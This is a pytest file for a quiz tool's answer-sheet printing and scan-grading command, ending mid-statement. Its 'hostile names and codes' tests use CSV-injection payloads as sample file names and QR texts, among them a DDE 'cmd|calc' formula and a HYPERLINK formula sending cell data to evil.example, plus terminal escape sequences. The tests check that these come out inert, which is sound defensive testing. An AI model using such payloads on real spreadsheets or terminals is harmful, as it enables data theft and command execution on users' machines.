"""Answer sheets (`-f sheets`) and `quizgen grade`, read back the way a teacher's scanner would.

The tests print sheets with the real build, render them with pypdfium2, fill them with pencil-like
marks (irregular filled shapes in greys from 60 to 120, light ones near 190 beside them), then scan them badly
(turned up to 3°, scaled up to 4%, shifted, blurred, noisy, JPEG; some upside down; some as
pages of a scanned PDF) and grade them with the real command. The expected letters and scores
come from the paper's own answer key (`layout.versions`), not from the sheet's code.
"""

from __future__ import annotations

import csv
import io
import random
import re
import subprocess
import sys
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path

import pytest
from click.testing import CliRunner

# Sheets are printed by WeasyPrint and read back from their PDFs.
pytestmark = pytest.mark.pdf
cv2 = pytest.importorskip("cv2")
np = pytest.importorskip("numpy")
pytest.importorskip("pypdfium2")
from PIL import Image  # noqa: E402

from quizgen import grading  # noqa: E402
from quizgen.bank.load import load_bank  # noqa: E402
from quizgen.cli import cli  # noqa: E402
from quizgen.present import answersheet  # noqa: E402
from quizgen.present import versions as layout  # noqa: E402
from tests.support import photos  # noqa: E402

DPI = 150
MM = DPI / 25.4
SEED = 7

BANK = """\
id: sheets-demo
title: Answer sheet demo
questions:
  - id: capital
    type: single
    prompt: Capital of France?
    choices: [Paris, Lyon, Nice, Lille]
    answer: Paris
  - id: primes
    type: multiple
    prompt: Which are prime?
    choices: ["2", "3", "4", "5", "9"]
    answer: ["2", "3", "5"]
  - id: sky
    type: truefalse
    prompt: The sky is blue.
    answer: true
  - id: author
    type: short
    prompt: Who wrote it?
    answer: [Hugo]
  - id: colour
    type: single
    prompt: Colour of grass?
    choices: [Red, Green, Blue]
    answer: Green
  - id: even
    type: multiple
    prompt: Which are even?
    choices: ["1", "2", "4", "7"]
    answer: ["2", "4"]
    points: 2
  - id: boiling
    type: numeric
    prompt: Water boils at how many degrees Celsius?
    answer: 100
  - id: fire
    type: truefalse
    prompt: Fire is cold.
    answer: false
  - id: planet
    type: single
    prompt: Largest planet?
    choices: [Mars, Venus, Jupiter, Saturn, Mercury, Earth]
    answer: Jupiter
"""


def run(*args: str):
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert "Traceback" not in (result.output or ""), result.output
    return result


@pytest.fixture(scope="module")
def printed(tmp_path_factory):
    """The demo bank and its sheets, two versions, A4, seed 7."""
    folder = tmp_path_factory.mktemp("sheets")
    bank = folder / "bank" / "demo.yaml"
    bank.parent.mkdir()
    bank.write_text(BANK, encoding="utf-8")
    result = run("build", bank, "-f", "sheets", "--versions", "2", "--seed", SEED, "-o", folder / "out", "-q")
    assert result.exit_code == 0, result.output
    return bank, folder / "out" / "sheets-demo"


def page_image(pdf: Path, index: int = 0) -> np.ndarray:
    return photos.render(pdf, DPI, index)


# ---------------------------------------------------------------- filling and scanning


@dataclass
class Filled:
    """One sheet as a student fills it and the results row it must give."""

    version: str
    student: str
    marks: dict = field(default_factory=dict)  # question number -> letters filled dark
    light: dict = field(default_factory=dict)  # question number -> letters marked lightly
    turned: bool = False


def pencil(image: np.ndarray, x_mm: float, y_mm: float, diameter_mm: float, rng: random.Random, grey: int) -> None:
    """An irregular filled blob over a bubble, like a pencil scribble."""
    cx, cy, r = x_mm * MM, y_mm * MM, diameter_mm / 2 * MM
    points = []
    for k in range(18):
        angle = 2 * np.pi * k / 18
        reach = r * rng.uniform(0.92, 1.12)
        points.append(
            (cx + reach * np.cos(angle) + rng.uniform(-0.6, 0.6), cy + reach * np.sin(angle) + rng.uniform(-0.6, 0.6))
        )
    cv2.fillPoly(image, [np.int32(np.round(points))], int(grey), lineType=cv2.LINE_AA)


def fill(base: np.ndarray, sheet: answersheet.Sheet, filled: Filled, rng: random.Random) -> np.ndarray:
    image = base.copy()
    page = sheet.pages[0]
    for position, figure in enumerate(filled.student):
        bubble = page.digits[position][int(figure)]
        pencil(image, bubble.x, bubble.y, bubble.diameter, rng, rng.randint(60, 120))
    for row in page.rows:
        for bubble in row.bubbles:
            if bubble.label in filled.marks.get(row.number, ""):
                pencil(image, bubble.x, bubble.y, bubble.diameter, rng, rng.randint(60, 120))
            elif bubble.label in filled.light.get(row.number, ""):
                pencil(image, bubble.x, bubble.y, bubble.diameter, rng, rng.randint(180, 195))
    return image


def scan(image: np.ndarray, rng: random.Random, turned: bool = False) -> np.ndarray:
    """The page as a cheap scanner gives it back: laid a little askew on a bed slightly larger
    than the page (the scan keeps the whole page), scaled, blurred, noisy."""
    bed = int(rng.randint(225, 255))
    image = cv2.copyMakeBorder(image, 90, 90, 90, 90, cv2.BORDER_CONSTANT, value=bed)
    h, w = image.shape
    matrix = cv2.getRotationMatrix2D((w / 2, h / 2), rng.uniform(-3, 3), rng.uniform(0.96, 1.04))
    matrix[:, 2] += (rng.uniform(-20, 20), rng.uniform(-20, 20))
    out = cv2.warpAffine(image, matrix, (w, h), flags=cv2.INTER_LINEAR, borderValue=bed)
    out = cv2.GaussianBlur(out, (0, 0), rng.uniform(0.5, 1.1))
    noise = np.random.default_rng(rng.randrange(2**32)).standard_normal(out.shape, dtype=np.float32) * 6
    out = np.clip(out + noise, 0, 255).astype(np.uint8)
    return np.ascontiguousarray(out[::-1, ::-1]) if turned else out


def jpeg(image: np.ndarray, path: Path, rng: random.Random) -> Path:
    Image.fromarray(image).save(path, "JPEG", quality=rng.randint(70, 90))
    return path


def scanned_pdf(images: list[np.ndarray], path: Path) -> Path:
    """Pages as a scanner's PDF holds them: one JPEG image per page, 150 dpi."""
    pages = [Image.fromarray(image) for image in images]
    pages[0].save(path, "PDF", save_all=True, append_images=pages[1:], resolution=DPI)
    return path


# ---------------------------------------------------------------- what the results must say


def paper_key(bank, letter: str) -> dict[int, layout.Printed]:
    """The paper's questions by number, for the version of that letter (the key's ✓ marks)."""
    count = 1 if not letter else max(2, layout.letters(26).index(letter) + 1)
    version = next(v for v in layout.versions(bank, SEED, count) if v.letter == letter)
    return {p.number: p for p in version.questions}


def expected_row(file: str, page: int, filled: Filled, bank) -> list[str]:
    printed = paper_key(bank, filled.version)
    earned, out_of, flags, columns = Fraction(0), Fraction(0), [], []
    if filled.turned:
        flags.append("scanned upside down (turned)")
    for number in sorted(printed):
        p = printed[number]
        if p.type in ("short", "numeric", "cloze", "order", "match", "card"):
            columns.append("by hand")
            continue
        marked = filled.marks.get(number, "")
        light = filled.light.get(number, "")
        columns.append(marked)
        points = Fraction(p.question.points)
        out_of += points
        if light:
            flags.append(f"{number}: doubtful mark on {light}, not counted")
        if p.type == "truefalse":
            right = {"T" if p.question.answer else "F"}
        else:
            right = {o.label for o in p.options if o.mark}
        if p.type in ("single", "truefalse"):
            if len(marked) > 1:
                flags.append(f"{number}: several marks ({marked}) where one is asked, scored 0")
            elif marked in right:
                earned += points
        else:
            score = Fraction(max(0, len(set(marked) & right) - len(set(marked) - right)), len(right))
            earned += points * score
    text = lambda f: grading.micro_text(round(f * grading.MICRO))  # noqa: E731
    return [file, str(page), filled.version, filled.student, "", text(earned), text(out_of), "; ".join(flags)] + columns


def random_filling(rng: random.Random, bank, version: str) -> Filled:
    filled = Filled(version, "".join(str(rng.randrange(10)) for _ in range(8)))
    for number, p in paper_key(bank, version).items():
        labels = ["T", "F"] if p.type == "truefalse" else [o.label for o in p.options]
        if not labels:
            continue
        roll = rng.random()
        if roll < 0.15:
            continue  # left blank
        if p.type == "multiple":
            chosen = [label for label in labels if rng.random() < 0.45] or [rng.choice(labels)]
        elif roll < 0.25:
            chosen = rng.sample(labels, 2)  # two marks where one is asked
        else:
            chosen = [rng.choice(labels)]
        filled.marks[number] = "".join(label for label in labels if label in chosen)
        if roll > 0.93:
            rest = [label for label in labels if label not in chosen]
            if rest:
                filled.light[number] = rng.choice(rest)
    return filled


def bank_letter(p: layout.Printed, label: str) -> str:
    """The bank's letter (A = the first choice as written) of a printed letter, from the paper."""
    if p.type == "truefalse":
        return label
    html = {o.label: str(o.html) for o in p.options}[label]
    from quizgen.text import markup

    written = [str(markup.inline(c)) for c in p.question.choices]
    return layout.letters(len(written))[written.index(html)]


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


# ---------------------------------------------------------------- the tests


# Enough sheets that every kind of filling and scan occurs (the asserts below check it); the
# reader's rates over hundreds of sheets are benchmarks/bench_grade.py's job, not the suite's.
SINGLE_SCANS, SCANNED_PDFS, PAGES_PER_PDF = 24, 2, 8


def test_scanned_sheets_are_read_mark_for_mark(printed, tmp_path):
    """Sheets of both versions, filled at random (blanks, double marks, light marks, several
    ticks), scanned badly, some upside down, as JPEGs and as pages of scanned PDFs with the
    versions mixed: every letter, student number, score and flag in results.csv is as filled."""
    bank_path, out = printed
    bank = load_bank(bank_path).bank
    rng = random.Random(2026)
    bases = {v: page_image(out / f"sheets-demo-sheet-{v}.pdf") for v in "AB"}
    sheets = {v: answersheet.sheet(bank, SEED, v, "a4") for v in "AB"}
    files, expected, fillings = [], [], []

    def make(i: int) -> tuple[Filled, np.ndarray]:
        version = rng.choice("AB")
        filled = random_filling(rng, bank, version)
        filled.turned = i % 7 == 3
        fillings.append(filled)
        return filled, scan(fill(bases[version], sheets[version], filled, rng), rng, filled.turned)

    for i in range(SINGLE_SCANS):
        filled, image = make(i)
        path = jpeg(image, tmp_path / f"scan-{i:03d}.jpg", rng)
        files.append(path)
        expected.append(expected_row(str(path), 1, filled, bank))
    for k in range(SCANNED_PDFS):
        pdf = tmp_path / f"batch-{k}.pdf"
        images = []
        for page in range(1, PAGES_PER_PDF + 1):
            filled, image = make(SINGLE_SCANS + PAGES_PER_PDF * k + page)
            # A scanner's PDF holds JPEG pages: go through JPEG like the single scans.
            images.append(np.array(Image.open(jpeg(image, tmp_path / "page.jpg", rng))))
            expected.append(expected_row(str(pdf), page, filled, bank))
        files.append(scanned_pdf(images, pdf))
    total = SINGLE_SCANS + SCANNED_PDFS * PAGES_PER_PDF
    assert len(expected) == total
    assert any(f.light for f in fillings) and any(f.turned for f in fillings)
    assert any(len(m) == 2 for f in fillings for n, m in f.marks.items() if n in (1, 5, 9))
    results, stats = tmp_path / "results.csv", tmp_path / "stats.csv"
    result = run("grade", bank_path, *files, "-o", results, "--stats", stats)
    assert result.exit_code == 0, result.output
    header = ["file", "page", "version", "student", "name", "score", "max", "flags"] + [str(n) for n in range(1, 10)]
    rows = read_csv(results)
    assert rows[0] == header
    for got, want in zip(rows[1:], expected):
        assert got == want
    assert len(rows) == total + 1
    # Statistics: every choice counted under the bank's own letter, whatever the version.
    chosen = {q.id: {} for q in bank.questions}
    for filled in fillings:
        for number, p in paper_key(bank, filled.version).items():
            for label in filled.marks.get(number, ""):
                name = bank_letter(p, label)
                chosen[p.question.id][name] = chosen[p.question.id].get(name, 0) + 1
    table = {row[1]: row for row in read_csv(stats)[1:]}
    for q in bank.questions:
        row = table[q.id]
        assert row[3] == str(total)
        if q.type in ("single", "multiple", "truefalse"):
            counts = dict(item.split(":") for item in row[5].split())
            assert {k: int(v) for k, v in counts.items() if int(v)} == chosen[q.id]
            assert 0 <= float(row[7]) <= 1 and -1 <= float(row[8]) <= 1


def test_sheet_pdf_has_a_code_per_page_the_instructions_and_both_paper_sizes(tmp_path):
    bank = tmp_path / "big" / "big.yaml"
    bank.parent.mkdir()
    questions = "".join(
        f"  - id: q{i}\n    type: single\n    prompt: Question {i}?\n"
        f"    choices: [one{i}, two{i}, three{i}, four{i}]\n    answer: two{i}\n"
        for i in range(1, 100)
    )
    questions += "  - id: essay\n    type: short\n    prompt: Why?\n    answer: [because]\n"
    bank.write_text(f"id: big\ntitle: Big bank\nquestions:\n{questions}", encoding="utf-8")
    for paper, size in (("a4", (595, 842)), ("letter", (612, 792))):
        result = run("build", bank, "-f", "sheets", "--paper", paper, "-o", tmp_path / paper, "-q")
        assert result.exit_code == 0, result.output
        sheet_pdf = tmp_path / paper / "big" / "big-sheet.pdf"
        import pypdf

        reader = pypdf.PdfReader(sheet_pdf)
        assert len(reader.pages) >= 2
        assert all(tuple(round(float(v)) for v in page.mediabox[2:]) == size for page in reader.pages)
        text = subprocess.run(
            ["pdftotext", "-layout", str(sheet_pdf), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert "Student number" in text and "To change an answer" in text
        assert "100 marked by hand" in " ".join(text.split())
        codes = []
        for index in range(len(reader.pages)):
            image = page_image(sheet_pdf, index)
            codes.append(cv2.QRCodeDetector().detectAndDecode(image[: image.shape[0] // 3])[0])
        fingerprint = answersheet.fingerprint(load_bank(bank).bank)
        assert codes == [f"QZS1 big - 0 {paper} {n} {fingerprint}" for n in range(1, len(codes) + 1)]


def test_multi_page_sheet_reads_each_page_under_its_own_numbers(tmp_path):
    bank = tmp_path / "b" / "long.yaml"
    bank.parent.mkdir()
    questions = "".join(
        f"  - id: t{i}\n    type: truefalse\n    prompt: Claim {i}.\n    answer: {'true' if i % 2 else 'false'}\n"
        for i in range(1, 121)
    )
    bank.write_text(f"id: long\ntitle: Long\nquestions:\n{questions}", encoding="utf-8")
    assert run("build", bank, "-f", "sheets", "--paper", "letter", "-o", tmp_path / "out", "-q").exit_code == 0
    loaded = load_bank(bank).bank
    sheet = answersheet.sheet(loaded, 0, "", "letter")
    assert len(sheet.pages) == 2
    rng = random.Random(3)
    second = sheet.pages[1]
    image = page_image(tmp_path / "out" / "long" / "long-sheet.pdf", 1)
    filled = Filled("", "12345678", marks={row.number: "T" for row in second.rows})
    marked = image.copy()
    for position, figure in enumerate(filled.student):
        bubble = second.digits[position][int(figure)]
        pencil(marked, bubble.x, bubble.y, bubble.diameter, rng, 90)
    for row in second.rows:
        pencil(marked, row.bubbles[0].x, row.bubbles[0].y, row.bubbles[0].diameter, rng, 90)
    path = jpeg(scan(marked, rng), tmp_path / "p2.jpg", rng)
    results = tmp_path / "r.csv"
    assert run("grade", bank, path, "-o", results).exit_code == 0
    row = read_csv(results)[1]
    first_number = second.rows[0].number
    right = sum(1 for r in second.rows if r.number % 2)
    # Its first page not scanned: flagged, its questions not blanks.
    assert row[:8] == [str(path), "1", "", "12345678", "", str(right), str(len(second.rows)), "page 1 of 2 not found"]
    assert row[8 : 8 + first_number - 1] == ["page not found"] * (first_number - 1)
    assert row[8 + first_number - 1 :] == ["T"] * len(second.rows)


def test_bad_scans_each_get_a_clear_line_and_no_traceback(printed, tmp_path):
    bank_path, out = printed
    rng = random.Random(9)
    base = page_image(out / "sheets-demo-sheet-A.pdf")
    blank = tmp_path / "blank.png"
    Image.fromarray(np.full((1754, 1240), 250, np.uint8)).save(blank)
    noise = tmp_path / "photo.png"
    Image.fromarray(np.random.default_rng(1).integers(0, 255, (600, 400), dtype=np.uint8)).save(noise)
    smudged = base.copy()
    qr = answersheet.sheet(load_bank(bank_path).bank, SEED, "A", "a4")
    left = (qr.width - answersheet.MARGIN - answersheet.QR_SIZE) * MM
    top = answersheet.QR_TOP * MM
    cv2.rectangle(smudged, (int(left + 30), int(top + 30)), (int(left + 110), int(top + 110)), 0, -1)
    smudged_path = jpeg(scan(smudged, rng), tmp_path / "smudged.jpg", rng)
    text = tmp_path / "notes.txt"
    text.write_text("not a scan", encoding="utf-8")
    # The same bank edited since the sheets were printed: a choice changed.
    edited = tmp_path / "edited" / "demo.yaml"
    edited.parent.mkdir()
    edited.write_text(BANK.replace("Lille", "Lorient"), encoding="utf-8")
    other = tmp_path / "other" / "demo.yaml"
    other.parent.mkdir()
    other.write_text(BANK.replace("id: sheets-demo", "id: other-bank"), encoding="utf-8")
    good = jpeg(scan(base, rng, turned=True), tmp_path / "turned.jpg", rng)
    results = tmp_path / "r.csv"
    result = run("grade", bank_path, blank, noise, smudged_path, text, good, "-o", results)
    assert result.exit_code == 1
    rows = read_csv(results)
    empty = [""] * 9
    assert rows[1] == [str(blank), "1", "", "", "", "", "", "blank page: nothing printed or written on it"] + empty
    no_qr = "no QR code could be read: not an answer sheet, or the code is smudged, folded or out of the scan"
    assert rows[2] == [str(noise), "1", "", "", "", "", "", no_qr] + empty
    # Its code smudged, the sheet is known by the squares along its foot and the seed of the
    # other sheet graded with it (test_photos tests this further).
    assert rows[3][:4] == [str(smudged_path), "1", "A", ""]
    assert rows[3][7].startswith("QR code not read: taken for version A, page 1 by the squares along its foot")
    assert rows[4][7].startswith("notes.txt is neither a PDF nor an image quizgen can read")
    assert rows[5][:8] == [str(good), "1", "A", "", "", "0", "8", "scanned upside down (turned)"]
    assert f"{blank}: page 1: error: blank page" in result.output
    assert "2 of 5 pages graded, 2 with marks to check, 3 not read" in result.output
    for bank, why in (
        (edited, "answer sheet printed from another edit of bank 'sheets-demo'"),
        (other, "answer sheet of bank 'sheets-demo', not of 'other-bank'"),
    ):
        result = run("grade", bank, good, "-o", results)
        assert result.exit_code == 1
        assert read_csv(results)[1][7].startswith(why)
        assert f"{good}: page 1: error: {why}" in result.output


def test_annotated_copy_shows_the_marks_read(printed, tmp_path):
    bank_path, out = printed
    bank = load_bank(bank_path).bank
    sheet = answersheet.sheet(bank, SEED, "B", "a4")
    rng = random.Random(4)
    filled = random_filling(rng, bank, "B")
    path = jpeg(
        scan(fill(page_image(out / "sheets-demo-sheet-B.pdf"), sheet, filled, rng), rng), tmp_path / "s.jpg", rng
    )
    result = run("grade", bank_path, path, "--annotate", tmp_path / "checked")
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0].startswith("file,page,version,student")
    drawn = cv2.imread(str(tmp_path / "checked" / "s-p1.png"))
    assert drawn is not None
    page = sheet.pages[0]
    from quizgen.scans.locate import PX_PER_MM

    for row in page.rows:
        for bubble in row.bubbles:
            x, y = int(bubble.x * PX_PER_MM), int(bubble.y * PX_PER_MM)
            reach = int(bubble.diameter / 2 * PX_PER_MM) + 3
            ring = drawn[y - reach - 2 : y + reach + 3, x - reach - 2 : x + reach + 3].reshape(-1, 3).astype(int)
            coloured = ((abs(ring[:, 0] - ring[:, 1]) > 60) | (abs(ring[:, 1] - ring[:, 2]) > 60)).any()
            marked = bubble.label in filled.marks.get(row.number, "") or bubble.label in filled.light.get(
                row.number, ""
            )
            if marked:
                assert coloured, (row.number, bubble.label)


def test_missing_libraries_are_named_with_the_extra_to_install(monkeypatch, tmp_path, printed):
    from quizgen import formats

    for name in [m for m in sys.modules if m.startswith(("quizgen.scans", "quizgen.formats.sheets"))]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "segno", None)
    with pytest.raises(formats.FormatUnavailable, match=r"pip install 'quizgen\[grade\]'"):
        formats.load("sheets")
    monkeypatch.setitem(sys.modules, "cv2", None)
    result = run("grade", printed[0], printed[1] / "sheets-demo-sheet-A.pdf")
    assert result.exit_code == 1
    assert "pip install 'quizgen[grade]'" in result.output


def test_help_does_not_import_the_vision_libraries():
    code = (
        "import sys; from quizgen.cli import cli\n"
        "try:\n    cli(['--help'])\nexcept SystemExit:\n    pass\n"
        "print([m for m in ('cv2', 'numpy', 'segno', 'pypdfium2') if m in sys.modules])"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip().splitlines()[-1] == "[]"


def test_a_half_filled_bubble_is_the_answer_and_an_erasure_is_flagged(printed, tmp_path):
    """A bubble pencilled from one side to the middle, alone on its row, is what the student
    meant; a bubble rubbed out to a grey ghost is not an answer, and is flagged."""
    bank_path, out = printed
    bank = load_bank(bank_path).bank
    sheet = answersheet.sheet(bank, SEED, "A", "a4")
    rng = random.Random(11)
    image = page_image(out / "sheets-demo-sheet-A.pdf")
    half_row, erased_row = [r for r in sheet.pages[0].rows if r.bubbles and r.single][:2]
    for bubble, grey, end in ((half_row.bubbles[0], 80, 270), (erased_row.bubbles[1], 225, 450)):
        cx, cy, r = bubble.x * MM, bubble.y * MM, bubble.diameter / 2 * MM
        cv2.ellipse(image, (int(cx), int(cy)), (int(r), int(r)), 0, 90, end, grey, -1)
    path = jpeg(scan(image, rng), tmp_path / "half.jpg", rng)
    result = run("grade", bank_path, path, "-o", tmp_path / "r.csv")
    assert result.exit_code == 0
    got = read_csv(tmp_path / "r.csv")[1]
    assert got[7] == f"{erased_row.number}: doubtful mark on {erased_row.bubbles[1].label}, not counted"
    assert got[7 + half_row.number] == half_row.bubbles[0].label
    assert got[7 + erased_row.number] == ""


# ---------------------------------------------------------------- hostile names and codes


def test_csv_cells_are_never_formulas_and_numbers_stay_numbers():
    from quizgen.runtime.csvsafe import csv_text, inert_cell

    for formula in [
        "=1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "=",
        "-1.5.2",
        "-1,5",
        "- 1",
        "-inf",
        "-nan",
        "-0x10",
        "-1_000",
        "+1e",
        "@",
    ]:
        assert inert_cell(formula) == "'" + formula, formula
    for kept in ["-1.5", "-0.250", "+3", "-1", "-.5", "-1e-3", "1.5", "0", "", "a=1", " =1", "'=1", "x-1"]:
        assert inert_cell(kept) == kept, kept
    text = csv_text([["=1,2", "-1.5", 'say "=x"'], [1, -2]])
    assert list(csv.reader(io.StringIO(text))) == [["'=1,2", "-1.5", 'say "=x"'], ["1", "-2"]]


def test_results_csv_from_hostile_results():
    """The writer itself, with Result objects: file names and problems that would be formulas,
    control characters, and numbers that stay numbers."""
    from quizgen.scans.grade import results_csv
    from quizgen.scans.papers import papers
    from quizgen.scans.result import Result

    results = [
        Result('=HYPERLINK("x").png', 1, problem="@SUM(1+1).png is neither a PDF nor an image"),
        Result("-2+3+cmd|x.png", 2, problem="blank page: nothing printed or written on it"),
        Result("\x1b[2J\r=1.png", 1, problem="\t=cmd"),
        Result("ok.png", 1, version="A", student="-1", earned=1_500_000, out_of=2_000_000, flags=["-x"]),
    ]
    rows = list(csv.reader(io.StringIO(results_csv(papers(results), [1]))))
    assert rows[0] == ["file", "page", "version", "student", "name", "score", "max", "flags", "1"]
    assert rows[1] == [
        '\'=HYPERLINK("x").png',
        "1",
        "",
        "",
        "",
        "",
        "",
        "'@SUM(1+1).png is neither a PDF nor an image",
        "",
    ]
    assert rows[2][0] == "'-2+3+cmd|x.png"
    assert rows[3][0] == "\\x1b[2J\\x0d=1.png" and rows[3][7] == "\\x09=cmd"
    assert rows[4] == ["ok.png", "1", "A", "-1", "", "1.5", "2", "'-x", ""]


def test_stats_csv_keeps_a_negative_discrimination_a_number(tmp_path):
    """Weak students right and strong ones wrong: discrimination -1.000, still a number."""
    from quizgen.scans.result import Answer, Result
    from quizgen.scans.stats import stats_csv

    path = tmp_path / "demo.yaml"
    path.write_text(BANK, encoding="utf-8")
    bank = load_bank(path).bank
    results = []
    for i, right in enumerate([True, True, False, False]):
        answer = Answer("capital", "A" if right else "B", (0,) if right else (1,), Fraction(int(right)))
        results.append(
            Result(f"{i}.png", 1, version="A", earned=(i + 1) * 1_000_000, out_of=10_000_000, answers={1: answer})
        )
    rows = list(csv.reader(io.StringIO(stats_csv(bank, results))))
    capital = next(row for row in rows if row[1] == "capital")
    assert capital[-1] == "-1.000" and capital[-2] == "0.500"
    assert all(not cell.startswith("'") for row in rows for cell in row)


def _blank_scans(folder: Path, names: list[str]) -> None:
    for name in names:
        Image.fromarray(np.full((120, 90), 250, np.uint8)).save(folder / name, format="PNG")


def test_scan_names_that_are_formulas_or_escapes_stay_text(run_cli, tmp_path):
    """`quizgen grade` run in the folder of scans named to be formulas (so the file column starts
    with the name) and to clear the terminal: each cell is text, and nothing raw is printed."""
    (tmp_path / "demo.yaml").write_text(BANK, encoding="utf-8")
    blank = [
        '=HYPERLINK("evil.example?"&A1,"x").png',
        "-2+3+cmd|' -C calc'!A0.png",
        "+1+1.png",
        "\x1b]0;pwned\x07\x1b[2J.png",
    ]
    _blank_scans(tmp_path, blank)
    (tmp_path / "@SUM(1+1).png").write_text("not an image", encoding="utf-8")
    result = run_cli(
        "grade", "-o", "results.csv", "--stats", "stats.csv", "demo.yaml", "--", *blank, "@SUM(1+1).png", cwd=tmp_path
    )
    assert result.exit_code == 1  # no page was graded
    rows = read_csv(tmp_path / "results.csv")
    assert [row[0] for row in rows[1:]] == [
        '\'=HYPERLINK("evil.example?"&A1,"x").png',
        "'-2+3+cmd|' -C calc'!A0.png",
        "'+1+1.png",
        "\\x1b]0;pwned\\x07\\x1b[2J.png",
        "'@SUM(1+1).png",
    ]
    assert rows[5][7].startswith("'@SUM(1+1).png is neither a PDF nor an image")
    stats = read_csv(tmp_path / "stats.csv")
    assert stats[0][0] == "question" and len(stats) == 10
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    for table in (rows, stats):
        assert not [cell for row in table for cell in row if cell.startswith(formula_starts)]
    printed = result.stdout + result.stderr
    assert "\x1b" not in printed and "\x07" not in printed
    assert "\\x1b]0;pwned\\x07\\x1b[2J.png: page 1: error: blank page" in result.stderr

    result = run_cli("grade", "demo.yaml", "\x1b]0;pwned\x07\x1b[2J.png", cwd=tmp_path)  # the table printed
    assert "\x1b" not in result.stdout and "\\x1b]0;pwned\\x07\\x1b[2J.png,1," in result.stdout


def test_a_forged_qr_code_is_neither_a_formula_nor_an_escape(run_cli, tmp_path, monkeypatch):
    """A QR code's text is printed on the sheet by anyone with a printer: a forged one naming a
    bank or a version made of escapes and formulas is reported escaped, its cells inert."""
    from quizgen.scans import locate

    bank_path = tmp_path / "demo.yaml"
    bank_path.write_text(BANK, encoding="utf-8")
    fingerprint = answersheet.fingerprint(load_bank(bank_path).bank)
    codes = {
        "bank.png": f"{answersheet.PAYLOAD_TAG} =cmd|'/C\x1b[2Jcalc'!A0 A 7 a4 1 {fingerprint}",
        "version.png": f"{answersheet.PAYLOAD_TAG} sheets-demo @\x1b]0;x\x07 7 a4 1 {fingerprint}",
    }
    _blank_scans(tmp_path, list(codes))
    read = {}

    def forged(image):  # what locate gives for a sheet whose QR code says codes[name]
        text = codes[read.setdefault("names", list(codes)).pop(0)]
        return locate.Found(locate.parse_payload(text), image, False)

    monkeypatch.setattr(locate, "locate", forged)
    result = run_cli("grade", bank_path, *codes, "-o", "results.csv", cwd=tmp_path)
    assert result.exit_code == 1
    rows = read_csv(tmp_path / "results.csv")
    assert rows[1][7] == "answer sheet of bank '=cmd|'/C\\x1b[2Jcalc'!A0', not of 'sheets-demo'"
    assert rows[2][7] == "the QR code names version '@\\x1b]0;x\\x07', which quizgen never prints"
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "bank.png: page 1: error: answer sheet of bank '=cmd|'/C\\x1b[2Jcalc'!A0'" in result.stderr


ARABIC = """\
id: arabic-sheet
title: اختبار
language: ar
questions:
  - {id: capital, type: single, prompt: "ما عاصمة مصر؟", choices: [القاهرة, الإسكندرية, أسوان, الأقصر, طنطا], answer: القاهرة, shuffle: false}
  - {id: primes, type: multiple, prompt: "أيها أعداد أولية؟", choices: ["2", "3", "4"], answer: ["2", "3"], shuffle: false}
  - {id: sky, type: truefalse, prompt: "السماء زرقاء.", answer: true}
"""


def test_an_arabic_bank_letters_choices_in_arabic_on_paper_key_and_sheet_and_grades_them(tmp_path):
    """Arabic exams letter choices أ ب ج د هـ: the paper, the key and the answer sheet print
    those letters (not A B C), and the grader reads the bubbles back under them. (The paper's
    PDF in Arabic is checked in tests/test_languages.py.)"""
    bank_path = tmp_path / "bank" / "ar.yaml"
    bank_path.parent.mkdir()
    bank_path.write_text(ARABIC, encoding="utf-8")
    out = tmp_path / "out"
    result = run("build", bank_path, "-f", "sheets", "-o", out, "-q")
    assert result.exit_code == 0, result.output
    folder = out / "arabic-sheet"
    text = subprocess.run(["pdftotext", str(folder / "arabic-sheet-sheet.pdf"), "-"], capture_output=True, text=True)
    words = set(re.sub("[\u202a-\u202e]", " ", text.stdout).split())  # pdftotext's direction marks
    assert {"أ", "ب", "ج", "د", "هـ"} <= words, words
    assert not {"A", "B", "C", "D", "E"} & words, words
    bank = load_bank(bank_path).bank
    # The paper and its key print these (quizgen.present.versions): letters, ticks and grid.
    printed = {p.question.id: p for p in layout.versions(bank, 0, 1)[0].questions}
    assert [o.label for o in printed["capital"].options] == ["أ", "ب", "ج", "د", "هـ"]
    # True and False are lettered with their initials (ص, خ), the same on the paper and the sheet.
    assert [o.label for o in printed["sky"].options] == ["ص", "خ"]
    assert printed["capital"].grid == "أ" and printed["primes"].grid == "أ, ب"

    sheet = answersheet.sheet(bank, 0, "", "a4")
    rows = {row.number: row for row in sheet.pages[0].rows}
    assert [b.label for b in rows[1].bubbles] == ["أ", "ب", "ج", "د", "هـ"]
    assert [b.label for b in rows[3].bubbles] == ["ص", "خ"]
    rng = random.Random(3)
    image = page_image(folder / "arabic-sheet-sheet.pdf")
    for number, label in ((1, "أ"), (2, "ب"), (2, "ج")):
        bubble = next(b for b in rows[number].bubbles if b.label == label)
        pencil(image, bubble.x, bubble.y, bubble.diameter, rng, 80)
    scanned = jpeg(scan(image, rng), tmp_path / "scan.jpg", rng)
    result = run("grade", bank_path, scanned, "-o", tmp_path / "r.csv")
    assert result.exit_code == 0, result.output
    row = read_csv(tmp_path / "r.csv")[1]
    assert row[8:10] == ["أ", "بج"]  # the letters read back, as printed
    assert row[5:7] == ["1", "3"]  # the capital right; one right and one wrong choice of two: 0


def test_sheet_stars_multi_answer_rows_shows_its_version_large_and_explains_short_numbers(printed):
    import re

    bank_path, out = printed
    sheet = answersheet.sheet(load_bank(bank_path).bank, SEED, "B", "a4")
    pdf = str(out / "sheets-demo-sheet-B.pdf")
    text = subprocess.run(["pdftotext", "-layout", pdf, "-"], capture_output=True, text=True, check=True).stdout
    words = " ".join(text.split())
    assert "accept several answers" in words and "fewer figures than boxes starts in the first box" in words
    for row in sheet.pages[0].rows:
        several = bool(row.bubbles) and not row.single
        assert (f"*{row.number}" in text.split()) == several, row.number
    boxes = subprocess.run(["pdftotext", "-bbox", pdf, "-"], capture_output=True, text=True, check=True).stdout
    sized = [
